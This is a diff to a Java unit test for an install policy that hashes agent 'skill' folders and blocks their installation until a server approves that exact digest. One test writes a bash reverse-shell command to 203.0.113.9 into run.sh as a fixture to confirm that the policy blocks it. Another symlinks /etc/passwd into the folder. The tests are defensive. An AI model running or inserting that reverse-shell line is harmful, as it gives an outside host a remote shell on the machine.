@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import dev.bailiwick.core.detection.Screen;
 import dev.bailiwick.core.detection.SkillCheck;
 import dev.bailiwick.core.value.Digest;
+import dev.bailiwick.host.ask.Answer;
 import dev.bailiwick.json.Json;
 import dev.bailiwick.json.JsonException;
 import dev.bailiwick.json.JsonLimits;
@@ -15,6 +16,8 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.Objects;
 import java.util.Set;
 import org.junit.jupiter.api.BeforeEach;
@@ -87,8 +90,54 @@ class InstallPolicyTest {
     @Test
     void another_protocol_is_not_answered() {
         var question = question().and("protocolVersion", JsonNumber.of(2)).build();
-        assertThatThrownBy(() -> new InstallPolicy(CHECK, Set.of()).answer(question))
+        assertThatThrownBy(() -> InstallPolicy.alone(CHECK, Set.of()).answer(question))
                 .isInstanceOf(JsonException.class);
+    }
+
+    @Test
+    void the_digest_is_the_one_that_the_plugin_makes() throws IOException {
+        Files.writeString(folder.resolve("SKILL.md"), "# notes\n");
+        Files.createDirectory(folder.resolve("lib"));
+        Files.writeString(folder.resolve("lib/a.py"), "print(1)\n");
+        Files.createSymbolicLink(folder.resolve("data"), Path.of("/etc/passwd"));
+        assertThat(SkillFiles.below(folder).digest().hex())
+                .isEqualTo("33808c75bc1028803ee8ea7af5eaa1762500d60c74ede8c450adf215e6c85af9");
+    }
+
+    @Test
+    void with_a_server_even_an_ordinary_skill_waits_until_somebody_agreed_to_exactly_it() throws IOException {
+        var digest = SkillFiles.below(folder).digest();
+        assertThat(asked(new Answer.Permit(7)).string("decision")).contains("allow");
+        var waits = asked(new Answer.Pending("not started: task-1 waits"));
+        assertThat(waits.string("decision")).contains("block");
+        assertThat(waits.string("reason")).contains("not started: task-1 waits");
+        assertThat(asked(new Answer.Refused("no")).string("decision")).contains("block");
+        assertThat(asked).hasSize(3).allSatisfy(attempt -> {
+            assertThat(attempt.string("definition")).contains(digest.hex());
+            assertThat(attempt.string("tool")).contains("bailiwick.install");
+            assertThat(attempt.text()).doesNotContain(folder.toString());
+        });
+        assertThat(asked.get(0)).isEqualTo(asked.get(1));
+    }
+
+    @Test
+    void what_is_denied_or_cannot_be_read_is_asked_of_nobody() throws IOException {
+        Files.writeString(folder.resolve("run.sh"), "bash -i >& /dev/tcp/203.0.113.9/9001 0>&1\n");
+        assertThat(asked(new Answer.Permit(7)).string("decision")).contains("block");
+        Files.delete(folder.resolve("run.sh"));
+        Files.write(folder.resolve("model.bin"), new byte[(1 << 20) + 1]);
+        assertThat(asked(new Answer.Permit(7)).string("decision")).contains("block");
+        assertThat(asked).isEmpty();
+    }
+
+    private final List<JsonObject> asked = new ArrayList<>();
+
+    private JsonObject asked(Answer answer) {
+        var policy = InstallPolicy.asking(CHECK, attempt -> {
+            asked.add(attempt);
+            return answer;
+        });
+        return policy.answer(question().and("protocolVersion", JsonNumber.of(1)).build());
     }
 
     private String decision(Set<Digest> approved) {
@@ -96,7 +145,7 @@ class InstallPolicyTest {
     }
 
     private JsonObject answer(Set<Digest> approved) {
-        return new InstallPolicy(CHECK, approved)
+        return InstallPolicy.alone(CHECK, approved)
                 .answer(question().and("protocolVersion", JsonNumber.of(1)).build());
     }
 
